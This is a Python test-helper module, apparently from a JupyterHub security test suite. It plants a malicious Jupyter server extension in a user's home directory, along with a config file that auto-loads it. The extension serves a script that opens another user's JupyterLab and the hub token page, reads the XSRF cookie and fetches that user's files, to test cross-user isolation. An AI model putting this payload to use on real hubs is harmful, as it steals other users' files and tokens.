"""What an attacker who controls their own server serves: a Jupyter server extension that
answers ``<base_url>evil`` with a page whose script tries to read another user's files and
hub token page through the visitor's cookies. The test writes it into the attacker's own home
(as the user could, from a terminal) and loads it through ~/.jupyter/jupyter_server_config.py,
which the attacker's server executes at its next start.
"""

EXTENSION = r'''
from jupyter_server.utils import url_path_join
from tornado import web

PAGE = """<!doctype html><html><head><title>pending</title></head><body><pre id="out"></pre><script>
// Pages refuse to be framed (frame-ancestors 'none'), so the page opens windows instead:
// a window of the same origin is the opener's to script, one of another origin is not.
async function opened(url) {
  const w = window.open(url, "_blank");
  if (!w) return null;
  for (let i = 0; i < 150; i++) {  // 15 s at most
    await new Promise((r) => setTimeout(r, 100));
    try { if (w.document.readyState === "complete" && w.location.href !== "about:blank") return w; }
    catch (e) { return w; }  // another origin: nothing readable, the caller says so
  }
  return w;
}
async function victimFiles(lab, contents) {
  // the victim's JupyterLab in a window, then act in it: its _xsrf cookie and its fetch
  const w = await opened(lab);
  if (!w) return "NO WINDOW";
  try {
    const xsrf = decodeURIComponent((w.document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1]);
    const r = await w.fetch(contents, {headers: {"X-XSRFToken": xsrf}});
    return "READ " + r.status + " " + (await r.text()).slice(0, 500);
  } catch (e) { return "BLOCKED " + e.name + ": " + e.message; }
  finally { w.close(); }
}
async function pageText(url) {
  const w = await opened(url);
  if (!w) return "NO WINDOW";
  try { return "READ " + w.document.body.innerText.slice(0, 500); }
  catch (e) { return "BLOCKED " + e.name + ": " + e.message; }
  finally { w.close(); }
}
(async () => {
  const out = {};
  out.contents = await victimFiles(VICTIM_LAB, VICTIM_CONTENTS);
  out.token_page = await pageText(HUB_TOKEN_PAGE);
  document.getElementById("out").textContent = JSON.stringify(out);
  document.title = "done";
})();
</script></body></html>"""


class EvilHandler(web.RequestHandler):
    def get(self):
        victim = self.get_argument("victim")
        hub = self.get_argument("hub")
        page = (PAGE.replace("VICTIM_LAB", repr("/user/%s/lab" % victim))
                .replace("VICTIM_CONTENTS", repr("/user/%s/api/contents" % victim))
                .replace("HUB_TOKEN_PAGE", repr(hub + "/hub/token")))
        self.set_header("Content-Type", "text/html")
        self.finish(page)


def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*$", [(url_path_join(app.web_app.settings["base_url"], "evil"), EvilHandler)])


def _jupyter_server_extension_points():
    return [{"module": "evil_ext"}]
'''

CONFIG = """
import sys
sys.path.insert(0, "/home/jovyan/.evil")
c.ServerApp.jpserver_extensions = {"evil_ext": True}
"""


def plant(sandbox, username):
    """Put the extension into ``username``'s home, as that user (uid 1000) inside their container."""
    sandbox.put_file(username, "/home/jovyan/.evil/evil_ext.py", EXTENSION)
    sandbox.put_file(username, "/home/jovyan/.jupyter/jupyter_server_config.py", CONFIG)
